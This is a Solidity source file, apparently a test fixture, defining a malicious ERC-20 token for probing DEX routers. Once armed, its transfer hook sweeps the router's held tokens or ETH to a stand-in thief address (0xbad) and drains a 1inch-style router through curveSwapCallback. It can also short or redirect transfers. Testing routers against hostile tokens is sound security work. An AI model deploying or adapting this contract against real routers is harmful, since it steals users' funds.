// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

interface IRouter {
    function sweepToken(address token, uint256 amountMinimum, address recipient) external payable;
    function unwrapWETH9(uint256 amountMinimum, address recipient) external payable;
    function curveSwapCallback(address, address, address inCoin, uint256 dx, uint256) external;
}

interface IHeld {
    function balanceOf(address owner) external view returns (uint256);
    function transfer(address to, uint256 value) external returns (bool);
}

/// A token that a route leads through, honest until it is armed with what it does while the router
/// or a pair transfers it.
contract MiddleToken {
    address public constant thief = address(0xbad);
    uint8 public kind;
    address router;
    address held;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);

    function mint(address to, uint256 value) external {
        balanceOf[to] += value;
        emit Transfer(address(0), to, value);
    }

    function arm(uint8 kind_, address router_, address held_) external {
        (kind, router, held) = (kind_, router_, held_);
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        move(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        allowance[from][msg.sender] -= value;
        move(from, to, value);
        return true;
    }

    function move(address from, address to, uint256 value) internal {
        // What the router holds of the parts before this one.
        if (kind == 1) IRouter(router).sweepToken(held, 0, thief);
        if (kind == 2) IRouter(router).unwrapWETH9(0, thief);
        // 1inch's router gives anyone what it holds.
        if (kind == 5) {
            uint256 all = IHeld(held).balanceOf(router);
            IRouter(router).curveSwapCallback(thief, thief, held, all, 0);
            IHeld(held).transfer(thief, all);
        }
        // Nearly nothing arrives, or all of it elsewhere.
        if (kind == 3) value = value > 1000 ? 1000 : value;
        balanceOf[from] -= value;
        balanceOf[kind == 4 ? thief : to] += value;
        emit Transfer(from, to, value);
    }
}
